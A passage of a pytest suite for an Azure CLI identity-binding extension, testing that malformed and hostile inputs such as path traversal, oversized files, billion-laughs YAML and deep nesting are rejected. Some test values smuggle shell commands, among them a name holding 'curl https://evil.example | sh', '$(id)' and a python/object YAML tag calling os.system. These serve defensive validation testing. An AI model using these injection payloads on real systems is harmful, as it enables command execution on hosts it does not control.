    case("lint-with-kubeconfig-and-context", ["check", "--kubeconfig", KUBECONFIG, "--context", "c1", "--pod-file",
                                              POD_FILE], "--kubeconfig, --context need the cluster"),
    case("rbac-two-sources", ["generate-rbac", *IDENTITY, *BINDING, "--service-account", "demo/app"],
         "exactly one identity source"),
    case("rbac-no-identity", ["generate-rbac", "--service-account", "demo/app"], "give the identity"),
    case("rbac-cluster-only", ["generate-rbac", "--cluster-name", CLUSTER, "--service-account", "demo/app"],
         "needs all of -g, --cluster-name and -n"),
    case("rbac-no-subject", ["generate-rbac", "--client-id", CLIENT_ID], "at least one subject"),
    case("rbac-include-without-sa", ["generate-rbac", "--client-id", CLIENT_ID, "--namespace", "demo",
                                     "--include-service-accounts"], "none were given"),
    case("rbac-include-without-tenant", ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", "demo/app",
                                         "--include-service-accounts"], "--tenant-id"),
    case("create-no-identity", ["create", *BINDING], "--managed-identity-resource-id"),
    case("show-no-name", ["show", "-g", RG, "--cluster-name", CLUSTER], "--name"),
    case("wait-no-condition", ["wait", *BINDING], "give the condition to wait for"),
    case("wait-interval-0", ["wait", *BINDING, "--created", "--interval", "0"], "--interval", "not 0"),
    case("wait-custom-bad", ["wait", *BINDING, "--custom", "[["], "'[['", "is not a JMESPath expression"),
    case("wait-timeout-negative", ["wait", *BINDING, "--created", "--timeout=-5"], "--timeout", "not -5"),
    case("wait-interval-not-int", ["wait", *BINDING, "--created", "--interval", "1e309"],
         "argument --interval: invalid int value: '1e309'"),
    # time.sleep() overflows above ~9.2e9 seconds: an upper bound is checked before any request
    case("wait-interval-huge", ["wait", *BINDING, "--created", "--interval", "99999999999"], "99999999999",
         "from 1 to"),
    case("wait-timeout-huge", ["wait", *BINDING, "--created", "--timeout", "99999999999"], "99999999999",
         "from 1 to"),
    case("kubeconfig-empty", ["check", *BINDING, *SA, "--kubeconfig", ""], "the kubeconfig path must not be empty"),
    case("kubeconfig-missing", ["check", *BINDING, *SA, "--kubeconfig", "/nonexistent/kubeconfig"],
         "no kubeconfig file at '/nonexistent/kubeconfig'"),
    case("kubeconfig-dev-zero", ["check", *BINDING, *SA, "--kubeconfig", "/dev/zero"], "'/dev/zero'",
         "is not a regular file"),
    case("context-blank", ["check", *BINDING, *SA, "--context", "  "], "the context name must not be empty"),
]


@pytest.mark.parametrize("c", FLAG_CASES)
def test_flag_combinations(c, tmp_path):
    kubeconfig, subjects = tmp_path / "kubeconfig", tmp_path / "subjects.json"
    kubeconfig.write_text("apiVersion: v1\nkind: Config\nclusters: []\ncontexts: []\nusers: []\n")
    subjects.write_text('[{"namespaceSelector": {"matchLabels": ["kubernetes.io/metadata.name=team-a"]}}]')
    files = {KUBECONFIG: str(kubeconfig), SUBJECTS_FILE: str(subjects), POD_FILE: deployment()(tmp_path)}
    run_case(c, [files.get(a, a) for a in c.args])


# == 6. allowed-subjects files ====================================================================

def write(content, name="input"):
    """A maker of a file holding `content` (text is written as UTF-8)."""
    def make(tmp_path):
        path = tmp_path / name
        path.write_bytes(content if isinstance(content, bytes) else content.encode())
        return str(path)
    return make


def missing(tmp_path):
    return str(tmp_path / "missing.json")


def directory(tmp_path):
    return str(tmp_path)


def dev_zero(_):
    return "/dev/zero"


def fifo(tmp_path):
    path = tmp_path / "fifo"
    os.mkfifo(path)  # nothing ever writes to it: opening it for reading would block forever
    return str(path)


def sized(size):
    def make(tmp_path):
        path = tmp_path / "big"
        with open(path, "wb") as f:
            f.truncate(size)
        return str(path)
    return make


def empty_path(_):
    return ""


def symlink_to(target):
    def make(tmp_path):
        path = tmp_path / "link"
        path.symlink_to(target)
        return str(path)
    return make


def symlink_loop(tmp_path):
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    return str(tmp_path / "a")


def unix_socket(tmp_path):
    import socket
    path = tmp_path / "sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))  # the socket file stays after close
    return str(path)


class FileCase:
    def __init__(self, make, shows, exit_code, cassette, max_seconds):
        self.make, self.shows, self.exit_code = make, shows, exit_code
        self.cassette, self.max_seconds = cassette, max_seconds


def file_case(case_id, make, *shows, exit_code=2, cassette="no_requests", max_seconds=5, bug=None):
    marks = [pytest.mark.xfail(strict=True, reason=f"BUG: {bug}")] if bug else []
    return pytest.param(FileCase(make, shows, exit_code, cassette, max_seconds), id=case_id, marks=marks)


def selector(**fields):
    return json.dumps([{"namespaceSelector": fields}])


MIB = 1024 * 1024
SUBJECTS_FILE_CASES = [
    file_case("missing", missing, "cannot read the allowed-subjects file", "No such file"),
    file_case("empty-path", empty_path, "cannot read the allowed-subjects file ''"),
    file_case("directory", directory, "is a directory"),
    file_case("dev-zero", dev_zero, "is not a regular file"),
    file_case("fifo", fifo, "is not a regular file"),
    file_case("symlink-dev-zero", symlink_to("/dev/zero"), "is not a regular file"),
    file_case("over-1mib", sized(MIB + 1), "1,048,577 bytes", "the limit is 1,048,576 bytes"),
    file_case("nested-200k", write("[" * 200_000), "nests arrays/objects more than 64 deep", max_seconds=2),
    file_case("nested-65", write("[" * 65 + "]" * 65), "nests arrays/objects more than 64 deep"),
    # an unterminated string of escaped quotes: a tokenizer that rescans it from every quote is quadratic
    file_case("escaped-quotes", write('"' + '\\"' * 16_000), "is not valid JSON", max_seconds=2),
    file_case("binary", write(b"\xff\xfe[\x00{\x00"), "is not UTF-8 text", "0xff at offset 0"),
    file_case("latin-1", write('[{"namespaceSelector": {"matchLabels": ["team=caf\xe9"]}}]'.encode("latin-1")),
              "is not UTF-8 text", "0xe9"),
    file_case("empty-file", write(""), "is not valid JSON"),
    file_case("not-json", write("namespaceSelector: x"), "is not valid JSON"),
    file_case("huge-integer", write("[" + "9" * 5000 + "]"), "is not valid JSON"),
    file_case("null", write("null"), "must be a JSON array"),
    file_case("object", write('{"namespaceSelector": {}}'), "must be a JSON array"),
    file_case("nan-entry", write("[NaN]"), "allowed subject [0] must be an object"),
    file_case("101-entries", write(json.dumps([{"namespaceSelector": {"matchLabels": [f"n=v{i}"]}}
                                               for i in range(101)])), "101 allowed subjects given", "at most 100"),
    file_case("selector-string", write('[{"namespaceSelector": "team-a"}]'), "must be a non-empty object"),
    file_case("unknown-field", write('[{"namespaceSelector": {"matchLabels": ["a=b"]}, "x": 1}]'),
              "unknown field(s) ['x']"),
    file_case("labels-object", write(selector(matchLabels={"a": "b"})), "must be a list of 'key=value' strings"),
    file_case("label-number", write(selector(matchLabels=[5])), "matchLabels[0]: 5 must be a 'key=value' string"),
    file_case("operator-list", write(selector(matchExpressions=[{"key": "a", "operator": ["In"], "values": ["x"]}])),
              "operator must be one of In, NotIn, Exists, DoesNotExist (a string), not ['In']"),
    file_case("operator-unknown", write(selector(matchExpressions=[{"key": "a", "operator": "Gt", "values": ["1"]}])),
              "'Gt' is not one of In, NotIn, Exists, DoesNotExist"),
    file_case("key-number", write(selector(matchExpressions=[{"key": 5, "operator": "Exists"}])),
              "5 is not a valid Kubernetes label key"),
    file_case("value-number", write(selector(matchExpressions=[{"key": "a", "operator": "In", "values": [5]}])),
              "5 is not a valid Kubernetes label value"),
    file_case("expressions-string", write(selector(matchExpressions="a In (x)")),
              "matchLabels and matchExpressions must be lists"),
]


def subjects_args(command, path):
    extra = IDENTITY if command == "create" else []
    return [command, *BINDING, *extra, "--allowed-subjects-from-file", path]


_WARM = []


def run_file_case(c, tmp_path, args_for):
    path = c.make(tmp_path)
    if not _WARM:  # the first az run in a process loads the command table: keep it out of the timing
        _WARM.append(az("no_requests", "show", *BINDING[:4], "-n", ".."))
    started = time.monotonic()
    r = az(c.cassette, *args_for(path))
    elapsed = time.monotonic() - started
    assert elapsed < c.max_seconds, (elapsed, r)
    assert_case(Case([], c.exit_code, (repr(path), *c.shows), c.cassette, None, "err"), r)


@pytest.mark.parametrize("c", SUBJECTS_FILE_CASES)
def test_allowed_subjects_files_on_update(c, tmp_path):
    run_file_case(c, tmp_path, lambda path: subjects_args("update", path))


ON_CREATE = ("missing", "fifo", "nested-200k", "binary", "latin-1", "101-entries", "operator-list")
SUBJECTS_FILE_CASES_ON_CREATE = [pytest.param(*p.values, id=f"create-{p.id}", marks=p.marks)
                                 for p in SUBJECTS_FILE_CASES if p.id in ON_CREATE]


@pytest.mark.parametrize("c", SUBJECTS_FILE_CASES_ON_CREATE)
def test_allowed_subjects_files_on_create(c, tmp_path):
    run_file_case(c, tmp_path, lambda path: subjects_args("create", path))


SUBJECTS = [{"namespaceSelector": {"matchLabels": ["kubernetes.io/metadata.name=team-b"]},
             "serviceAccountSelector": {"matchLabels": ["app=api"]}}]
SUBJECTS_ACCEPTED = [
    # valid files in the encodings and layouts editors produce: read as the same subjects
    pytest.param(b"\xef\xbb\xbf" + json.dumps(SUBJECTS).encode(), id="utf8-bom"),
    pytest.param(json.dumps(SUBJECTS, indent=2).replace("\n", "\r\n").encode() + b"\r\n", id="crlf-indented"),
]


@pytest.mark.parametrize("content", SUBJECTS_ACCEPTED)
def test_allowed_subjects_files_that_are_valid(content, tmp_path):
    path = tmp_path / "subjects.json"
    path.write_bytes(content)
    r = az("update_if_match", *subjects_args("update", str(path)))
    assert r.exit_code == 0, r
    assert "Traceback" not in r.err and "unexpected error" not in r.err
    puts = [body for method, _, body in r.requests if method == "PUT"]
    assert puts and puts[0]["properties"]["allowedSubjects"] == SUBJECTS
    assert_stays_inside(r, [binding_path(), f"/subscriptions/{SUB}/providers/Microsoft.ContainerService"])


# == 7. pod files (check --pod-file) ==============================================================

DEPLOYMENT = """apiVersion: apps/v1
kind: Deployment
metadata: {{name: workload, namespace: demo}}
spec:
  template:
    metadata:
      labels: {labels}
      annotations: {annotations}
    spec:
      serviceAccountName: workload
      containers: {containers}
"""
GOOD_POD = {"labels": '{"azure.workload.identity/use": "true"}',
            "annotations": '{"azure.workload.identity/use-identity-binding": "true"}',
            "containers": "[{name: app, image: contoso.azurecr.io/workload:1.4.2}]"}


def deployment(**changes):
    return write(DEPLOYMENT.format(**{**GOOD_POD, **changes}), "deploy.yaml")


LAUGHS = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n' + "".join(
    f"{x}: &{x} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n" for p, x in zip("abcdefgh", "bcdefghi"))
POD_FILE_CASES = [
    file_case("missing", missing, "cannot read the manifest", "No such file"),
    file_case("directory", directory, "is a directory"),
    file_case("dev-zero", dev_zero, "is not a regular file"),
    file_case("fifo", fifo, "is not a regular file"),
    file_case("unix-socket", unix_socket, "is not a regular file"),
    file_case("symlink-dev-zero", symlink_to("/dev/zero"), "is not a regular file"),
    file_case("symlink-loop", symlink_loop, "cannot read the manifest", "Too many levels of symbolic links"),
    file_case("over-4mib", sized(4 * MIB + 1), "4,194,305 bytes", "the limit is 4,194,304 bytes"),
    file_case("binary", write(b"\x7fELF\x02\x01\x01\x00\xff\xfe"), "is not UTF-8 text", "0xff at offset 8"),
    file_case("latin-1", write("kind: Pod\nmetadata: {name: caf\xe9}\n".encode("latin-1")), "is not UTF-8 text",
              "0xe9"),
    file_case("billion-laughs", write(LAUGHS), "aliases expand to more than 100,000 nodes", max_seconds=1),
    file_case("recursive-alias", write("a: &a [*a]\n"), "recursive aliases are not allowed", max_seconds=1),
    file_case("nested-20k", write("[" * 20_000), "nests more than 64 levels deep", max_seconds=2),
    file_case("nested-mappings", write("{a: " * 100 + "x" + "}" * 100), "nests more than 64 levels deep"),
    file_case("kind-number", write("kind: 5\n"), "kind must be a string, not a number"),
    file_case("metadata-string", write("kind: Deployment\nmetadata: just-a-string\n"),
              "metadata must be a mapping, not a string"),
    file_case("containers-number", deployment(containers="5"),
              "spec.template.spec.containers must be a list, not a number"),
    file_case("container-string", deployment(containers="[app]"),
              "spec.template.spec.containers[0] must be a mapping, not a string"),
    file_case("annotations-list", deployment(annotations="[azure.workload.identity/use-identity-binding]"),
              "spec.template.metadata.annotations must be a mapping, not a list"),
    file_case("label-boolean", deployment(labels="{azure.workload.identity/use: true}"),
              "must be a string, not a boolean (quote it: \"true\")"),
    file_case("label-key-number", deployment(labels="{5: x}"), "has the key 5, which is a number"),
    file_case("env-value-number", deployment(containers="[{name: app, env: [{name: PORT, value: 8080}]}]"),
              "spec.template.spec.containers[0].env[0].value must be a string, not a number"),
    file_case("top-level-list", write("- kind: Pod\n"),
              "document 1: must be a mapping (a Kubernetes object), not a list"),
    file_case("invalid-yaml", write("kind: Pod\nmetadata: {name: [\n"), "is not valid YAML or JSON"),
    file_case("tab-indent", write("kind: Pod\nmetadata:\n\tname: x\n"), "is not valid YAML or JSON"),
    file_case("nul-char", write("kind: Pod\x00\n"), "is not valid YAML or JSON"),
    file_case("bad-date", write("kind: Pod\nmetadata:\n  annotations:\n    since: 2024-13-45\n"),
              "has a value YAML cannot read", "month must be in 1..12"),
    file_case("huge-integer", write("kind: Pod\nmetadata: {generation: " + "9" * 5000 + "}\n"),
              "has a value YAML cannot read"),
    file_case("python-tag", write("kind: !!python/object/apply:os.system [id]\n"), "is not valid YAML or JSON",
              "python/object"),
    file_case("configmap-only", write("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n"),
              "holds ConfigMap; expected a Pod, Deployment"),
    file_case("empty-file", write(""), "holds nothing; expected a Pod"),
    file_case("list-items-number", write("apiVersion: v1\nkind: List\nitems: 5\n"), "items must be a list"),
    # a null list item is not an absent field: check/workload.py would call None.get on it
    file_case("null-container", deployment(containers="[null]"), "spec.template.spec.containers[0]", "not null"),
    file_case("null-init-container", deployment(containers="[{name: app}]\n      initContainers: [null]"),
              "spec.template.spec.initContainers[0]", "not null"),
    file_case("null-env-entry", deployment(containers="[{name: app, env: [null]}]"),
              "spec.template.spec.containers[0].env[0]", "not null"),
    # names that Kubernetes refuses would end up in the kubectl commands `check` prints as fixes: refused
    file_case("name-shell-injection", write(DEPLOYMENT.format(**GOOD_POD).replace(
        "{name: workload, namespace: demo}", '{name: "workload; curl https://evil.example | sh #", namespace: demo}')),
        "'workload; curl https://evil.example | sh #'", "is not a valid Kubernetes name"),
    file_case("container-shell-injection", deployment(containers='[{name: "app$(id)", env: [{name: AZURE_CLIENT_ID, '
                                                      'value: 00000000-1111-2222-3333-444444444444}]}]'),
              "'app$(id)'", "is not a valid Kubernetes name"),
    # explicit tags PyYAML's constructors fail on
    file_case("tag-bool", write("kind: Pod\nmetadata: {name: !!bool x}\n"), "has a value YAML cannot read"),
    file_case("tag-int-empty", write("kind: Pod\nmetadata: {name: !!int }\n"), "has a value YAML cannot read"),
    file_case("tag-timestamp", write("kind: !!timestamp x\n"), "has a value YAML cannot read"),
]


def check_args(path):
    return ["check", *BINDING, *SA, "--skip-cluster", "--pod-file", path]


@pytest.mark.parametrize("c", POD_FILE_CASES)
def test_pod_files(c, tmp_path):
    run_file_case(c, tmp_path, check_args)


@pytest.mark.parametrize("c", POD_FILE_CASES)
def test_pod_files_in_the_offline_lint(c, tmp_path):
    run_file_case(c, tmp_path, lambda path: ["check", "--pod-file", path])


POD_FILE_FINDINGS = [
    # valid manifests whose values the checks must judge without crashing (the Azure part is recorded green)
    # '²' and '٣٦٠٠' are str.isdigit() but int() refuses the first: only ASCII digits are a number here
    case("expiration-superscript", [], "'²'", "outside 3600-86400", exit_code=1, cassette="check_arm_green",
         stream="out", inside=(cluster_path(), identity_path())),
    case("expiration-arabic-digits", [], "'٣٦٠٠'", "outside 3600-86400", exit_code=1, cassette="check_arm_green",
         stream="out", inside=(cluster_path(), identity_path())),
    case("expiration-word", [], "'soon'", "outside 3600-86400", exit_code=1, cassette="check_arm_green",
         stream="out", inside=(cluster_path(), identity_path())),
]
EXPIRATION = {"expiration-superscript": "²", "expiration-arabic-digits": "٣٦٠٠", "expiration-word": "soon"}


@pytest.mark.parametrize("c", POD_FILE_FINDINGS)
def test_pod_file_values_judged_by_the_checks(c, request, tmp_path):
    value = EXPIRATION[request.node.callspec.id]
    annotations = ('{"azure.workload.identity/use-identity-binding": "true", '
                   f'"azure.workload.identity/service-account-token-expiration": "{value}"}}')
    run_case(c, check_args(deployment(annotations=annotations)(tmp_path)))


# == 8. no terminal to confirm on =================================================================

NO_TERMINAL_CASES = [
    case("delete", ["delete", *BINDING], "Refusing to delete identity binding 'identitybinding1'", "Add --yes",
         exit_code=1),
    case("delete-cleanup-fic", ["delete", *BINDING, "--cleanup-fic"], "federated credential", "Add --yes",
         exit_code=1),
    case("cleanup-fic", ["cleanup-fic", *IDENTITY], "Refusing to delete", IDENTITY_ID, "Add --yes", exit_code=1),
]


@pytest.mark.parametrize("c", NO_TERMINAL_CASES)
def test_no_terminal_without_yes(c):
    run_case(c)


# == 9. --query and --output ======================================================================

QUERY = "invalid jmespath_type value: '[['"
OUTPUT = "'nonsense' is not a valid value for '--output'"
QUERY_CASES = [
    case("query-show", ["show", *BINDING, "--query", "[["], QUERY),
    case("query-list", ["list", "-g", RG, "--cluster-name", CLUSTER, "--query", "[["], QUERY),
    case("query-unclosed-string", ["show", *BINDING, "--query", "'abc"], "invalid jmespath_type value"),
    case("output-show", ["show", *BINDING, "-o", "nonsense"], OUTPUT),
    case("output-rbac", ["generate-rbac", "--client-id", CLIENT_ID, "--service-account", "demo/app", "-o", "nonsense"],
         OUTPUT),
    # with a bad name as well, the first bad argument on the command line is the one reported
    case("name-then-query", ["show", *BINDING[:4], "-n", "..", "--query", "[["], "'..'", "dot segment"),
    case("query-then-name", ["show", *BINDING, "--query", "[[", "-n", ".."], QUERY),
    case("group-then-output", ["show", "-g", "..", "--cluster-name", CLUSTER, "-n", NAME, "-o", "nonsense"], "'..'"),
    case("output-then-query", ["show", *BINDING, "-o", "nonsense", "--query", "[["], OUTPUT),
]


@pytest.mark.parametrize("c", QUERY_CASES)
def test_query_and_output(c):
    run_case(c)


# == 10. not found ================================================================================

NOT_FOUND_CASES = [
    case("binding", ["show", *BINDING], f"Identity binding '{NAME}' was not found on cluster '{CLUSTER}'",
         exit_code=3, cassette="show_binding_not_found", inside=binding_path()),
    case("cluster", ["show", *BINDING], f"Cluster '{CLUSTER}' was not found in resource group '{RG}'",
         exit_code=3, cassette="show_cluster_not_found", inside=binding_path()),
    case("group", ["show", *BINDING], f"Resource group '{RG}' was not found", exit_code=3,
         cassette="show_group_not_found", inside=binding_path()),
    case("list-cluster", ["list", "-g", RG, "--cluster-name", CLUSTER], f"Cluster '{CLUSTER}' was not found",
         exit_code=3, cassette="list_cluster_not_found", inside=cluster_path()),
    case("delete-cluster", ["delete", *BINDING, "--yes"], f"Cluster '{CLUSTER}' was not found", exit_code=3,
         cassette="delete_cluster_not_found", inside=binding_path()),
    case("create-cluster", ["create", *BINDING, *IDENTITY], f"Cluster '{CLUSTER}' was not found", exit_code=3,
         cassette="create_cluster_not_found", inside=binding_path()),
    case("wait-cluster", ["wait", *BINDING, "--deleted"], f"Cluster '{CLUSTER}' was not found", exit_code=3,
         cassette="wait_cluster_not_found", inside=binding_path()),
    case("rbac-binding", ["generate-rbac", *BINDING, "--service-account", "demo/app"],
         f"Identity binding '{NAME}' was not found", exit_code=3, cassette="show_binding_not_found",
         inside=binding_path()),
    case("rbac-identity", ["generate-rbac", *IDENTITY, "--service-account", "demo/app"],
         f"Managed identity '{IDENTITY_ID}' was not found", exit_code=3, cassette="rbac_identity_not_found",
         inside=identity_path()),
    case("cleanup-fic-identity", ["cleanup-fic", *IDENTITY, "--yes"], f"Managed identity '{IDENTITY_ID}' was not found",
         exit_code=3, cassette="cleanup_fic_identity_not_found", inside=identity_path()),
]


@pytest.mark.parametrize("c", NOT_FOUND_CASES)
def test_not_found(c):
    run_case(c)


# == fleet view over subscriptions: list --subscription / --all-subscriptions ======================

FLEET = ["list", *IDENTITY]
SUB_NOT_ID = "is not a subscription id (a GUID) or name"
SUB_UNKNOWN = "no subscription of that name is known to this login"


def fleet_sub(*values):
    return [*FLEET, *[a for v in values for a in flag("--subscription", v)]]


SUBSCRIPTION_CASES = [
    case("sub-dotdot", fleet_sub(".."), "'..'", SUB_UNKNOWN),
    case("sub-slash", fleet_sub(SUB + "/resourceGroups/rg"), quoted(SUB + "/resourceGroups/rg"), SUB_UNKNOWN),
    case("sub-backslash", fleet_sub("a\\b"), SUB_UNKNOWN),
    case("sub-query", fleet_sub(SUB + "?api-version=1"), SUB_UNKNOWN),
    case("sub-percent", fleet_sub("%2e%2e"), "'%2e%2e'", SUB_UNKNOWN),
    case("sub-empty", fleet_sub(""), "argument --subscription: ''", SUB_NOT_ID),
    case("sub-blank", fleet_sub("   "), SUB_NOT_ID),
    case("sub-10k", fleet_sub(HUGE), quoted(HUGE), SUB_NOT_ID),
    case("sub-129", fleet_sub("a" * 129), SUB_NOT_ID),
    case("sub-newline", fleet_sub(SUB[:8] + "\n" + SUB[8:]), repr(SUB[:8] + "\n" + SUB[8:]), SUB_NOT_ID),
    case("sub-nul", fleet_sub(SUB + "\x00"), SUB_NOT_ID),
    case("sub-braces", fleet_sub("{%s}" % SUB), SUB_UNKNOWN),
    case("sub-guid-then-bad", fleet_sub(SUB, ".."), "'..'", SUB_UNKNOWN),
    case("sub-dash-option", fleet_sub("-" + SUB), SUB_UNKNOWN),
    case("sub-no-value", [*FLEET, "--subscription"], "--subscription"),
    case("sub-and-all", [*fleet_sub(SUB), "--all-subscriptions"], "not both"),
    case("all-with-value", [*FLEET, "--all-subscriptions=yes"], "--all-subscriptions"),
    case("all-with-cluster", ["list", "-g", RG, "--cluster-name", CLUSTER, "--all-subscriptions"], "at most one"),
    case("two-subs-with-cluster", ["list", "-g", RG, "--cluster-name", CLUSTER, "--subscription", SUB,
                                   "22222222-2222-2222-2222-222222222222"], "at most one"),
    case("all-without-identity", ["list", "--all-subscriptions"], "--managed-identity-resource-id"),
]


@pytest.mark.parametrize("c", SUBSCRIPTION_CASES)
def test_subscriptions(c):
    run_case(c)


# == 11. generate-manifests: the vault, its objects, the SecretProviderClass and the workload ========

VERSION = "0123456789abcdef0123456789abcdef"


def manifests(*args):
    return ["generate-manifests", "--client-id", CLIENT_ID, "--tenant-id", TENANT_ID, "--service-account",
            "demo/app", *args]


def vault_object(option, value):
    return manifests("--keyvault-name", "kv1", *flag(option, value))


OBJECT_HOSTILE = [  # (label, value, what the message shows), for each of --secret, --key, --certificate
    ("dotdot", "..", ("'..'", "contains '.'")),
    ("10k", HUGE, (quoted(HUGE), "(10000 characters)", "127")),
    ("unicode", "pässwort", ("'pässwort'", "contains 'ä'")),
    ("equals", "a=b=c", ("'a=b=c'", "at most one '/' and one '='")),
    ("newline", "db\n  - |\n    objectName: other", ("contains '\\n'",)),
    ("quote", 'db"x', ("contains '\"'",)),
    ("colon", "db: x", ("contains ':'",)),
    ("nul", "db\x00", ("contains '\\x00'",)),
    ("empty", "", ("the name is empty",)),
    ("bad-version", "db/latest", ("the version 'latest' is not 32 hexadecimal digits",)),
    ("file-dotdot", "db=..", ("the file name '..' is not valid",)),
    ("file-slash", "db=../etc", ("the file name '../etc' is not valid",)),
    ("file-atomic", "db=..data", ("starting with '..'",)),
    ("file-newline", "db=a\nb", ("the file name 'a\\nb' is not valid",)),
]


MANIFEST_CASES = [
    case("kv-dotdot", manifests(*flag("--keyvault-name", ".."), "--secret", "s"), "'..'", "contains '.'"),
    case("kv-slash", manifests("--keyvault-name", "kv/../x", "--secret", "s"), "'kv/../x'", "contains '/'"),
    case("kv-10k", manifests("--keyvault-name", HUGE, "--secret", "s"), quoted(HUGE), "(10000 characters)"),
    case("kv-short", manifests("--keyvault-name", "kv", "--secret", "s"), "'kv'", "2 characters long"),
    case("kv-digit-first", manifests("--keyvault-name", "1vault", "--secret", "s"), "starts with a letter"),
    case("kv-double-dash", manifests("--keyvault-name", "my--vault", "--secret", "s"), "contains '--'"),
    case("kv-unicode", manifests("--keyvault-name", "vаult", "--secret", "s"), "contains 'а'"),  # Cyrillic a
    case("kv-newline", manifests("--keyvault-name", "kv1\nx", "--secret", "s"), "'kv1\\nx'", "contains '\\n'"),
    *[case(f"{option[2:5]}-{label}", vault_object(option, value), *shows)
      for option in ("--secret", "--key", "--certificate") for label, value, shows in OBJECT_HOSTILE],
    case("two-objects-one-file", manifests("--keyvault-name", "kv1", "--secret", "a", "--key", "b=a"),
         "is written to the file 'a' of the mount"),
    case("objects-without-vault", manifests("--secret", "s"), "--secret needs --keyvault-name"),
    case("vault-without-objects", manifests("--keyvault-name", "kv1"), "needs at least one object"),
    case("spc-dotdot", manifests("--keyvault-name", "kv1", "--secret", "s", "--spc-name", ".."), "'..'",
         "empty part between dots"),
    case("spc-10k", manifests("--keyvault-name", "kv1", "--secret", "s", "--spc-name", HUGE), "10000 characters long"),
    case("spc-uppercase", manifests("--keyvault-name", "kv1", "--secret", "s", "--spc-name", "Team"), "uppercase"),
    case("spc-without-vault", manifests("--spc-name", "x"), "--spc-name needs --keyvault-name"),
    case("workload-job", manifests("--workload", "job/x"), "'job/x'", "cannot be changed"),
    case("workload-kind", manifests("--workload", "service/x"), "the kind 'service'"),
    case("workload-dotdot", manifests("--workload", "deployment/.."), "empty part between dots"),
    case("workload-shell", manifests("--workload", "deployment/web;id"), "contains ';'"),
    case("workload-no-slash", manifests("--workload", "web"), "expected KIND/NAME"),
    case("workload-two-sa", manifests("--service-account", "b/c", "--workload", "deploy/web"), "but 2 were given"),
    case("manifests-no-tenant", ["generate-manifests", "--client-id", CLIENT_ID, "--service-account", "demo/app"],
         "--client-id needs --tenant-id"),
    case("manifests-no-sa", ["generate-manifests", "--client-id", CLIENT_ID, "--tenant-id", TENANT_ID, "--namespace",
                             "demo"], "give at least one --service-account"),
    case("manifests-sa-dotdot", ["generate-manifests", "--client-id", CLIENT_ID, "--tenant-id", TENANT_ID,
                                 "--service-account", "../x"], "'../x'", "the namespace '..' is not valid"),
    case("manifests-id-dotdot", ["generate-manifests", "--managed-identity-resource-id", ID_DOTDOT,
                                 "--service-account", "demo/app"], *DOTDOT),
    case("manifests-not-found", ["generate-manifests", *BINDING, "--service-account", "demo/app"],
         f"Identity binding '{NAME}' was not found", exit_code=3, cassette="show_binding_not_found",
         inside=binding_path()),
]


@pytest.mark.parametrize("c", MANIFEST_CASES)
def test_generate_manifests(c):
    run_case(c)


# == 12. migrate: identity ids, scope, credential names, output directories =======================

MIGRATE_CASES = [
    case("mig-plan-id-dotdot", ["migrate", "plan", "--managed-identity-resource-id", ID_DOTDOT], *DOTDOT),
    case("mig-apply-id-guid", ["migrate", "apply", "--managed-identity-resource-id", CLIENT_ID], "is a GUID"),
    case("mig-retire-id-query", ["migrate", "retire", "--managed-identity-resource-id", IDENTITY_ID + "?x=1"],
         "contains '?'"),
    case("mig-plan-no-id", ["migrate", "plan"], "--managed-identity-resource-id"),
    case("mig-audit-sub-and-all", ["migrate", "audit", "--subscription", SUB, "--all-subscriptions"], "not both"),
    case("mig-audit-sub-dotdot", ["migrate", "audit", "--subscription", ".."], "'..'"),
    case("mig-audit-sub-10k", ["migrate", "audit", "--subscription", HUGE], "is not a subscription id"),
    case("mig-plan-group-dotdot", ["migrate", "plan", *IDENTITY, "-g", ".."], "'..'"),
    case("mig-cred-dotdot", ["migrate", "retire", *IDENTITY, "--credential", "..", "--yes"], "'..'"),
    case("mig-cred-slash", ["migrate", "retire", *IDENTITY, "--credential", "a/b", "--yes"], "'a/b'"),
    case("mig-cred-10k", ["migrate", "retire", *IDENTITY, "--credential", HUGE, "--yes"], "(10000 characters)"),
    case("mig-cred-short", ["migrate", "retire", *IDENTITY, "--credential", "ab", "--yes"], "3-120"),
    case("mig-cred-pct", ["migrate", "retire", *IDENTITY, "--credential", "%2e%2e", "--yes"], "'%2e%2e'"),
    case("mig-context-no-cluster", ["migrate", "retire", *IDENTITY, "--context", "c1"], "--cluster-name"),
    case("mig-cluster-dotdot", ["migrate", "retire", *IDENTITY, "--cluster-name", ".."], "'..'"),
    case("mig-manifests-empty", ["migrate", "plan", *IDENTITY, "--manifests-dir", ""], "must not be empty"),
    case("mig-backup-empty", ["migrate", "retire", *IDENTITY, "--backup-dir", " "], "must not be empty"),
]


@pytest.mark.parametrize("c", MIGRATE_CASES)
def test_migrate(c):
    run_case(c)


@pytest.mark.parametrize("flag_args", [["plan", *IDENTITY, "--manifests-dir"],
                                       ["retire", *IDENTITY, "--yes", "--backup-dir"]], ids=["manifests", "backup"])
@pytest.mark.parametrize("kind", ["file", "symlink-out", "missing-parent", "device"])
def test_migrate_output_directories(flag_args, kind, tmp_path):
    target = {"file": tmp_path / "f", "symlink-out": tmp_path / "l", "missing-parent": tmp_path / "no" / "dir",
              "device": "/dev/null"}[kind]
    if kind == "file":
        target.write_text("keep")
    if kind == "symlink-out":
        target.symlink_to(tmp_path.parent)
    r = az("no_requests", "migrate", *flag_args, str(target))
    assert r.exit_code == 2 and r.requests == [], r
    assert "Traceback" not in r.err
    if kind == "file":
        assert target.read_text() == "keep"


# == the suite itself =============================================================================

TABLES = {
    "identity ids": IDENTITY_CASES + IDENTITY_NORMALISED,
    "names": NAME_CASES + SERVICE_JUDGED,
    "client and tenant ids": GUID_CASES + GUID_NORMALISED,
    "service accounts and namespaces": SUBJECT_CASES,
    "flag combinations": FLAG_CASES,
    "allowed-subjects files": SUBJECTS_FILE_CASES + SUBJECTS_FILE_CASES_ON_CREATE + SUBJECTS_ACCEPTED,
    "pod files": POD_FILE_CASES + POD_FILE_FINDINGS,
    "no terminal": NO_TERMINAL_CASES,
    "query and output": QUERY_CASES,
    "not found": NOT_FOUND_CASES,
    "subscriptions": SUBSCRIPTION_CASES,
    "generate-manifests": MANIFEST_CASES,
    "migrate": MIGRATE_CASES,
}


def test_the_suite_has_at_least_150_cases_with_short_ascii_ids():
    cases = [p for table in TABLES.values() for p in table]
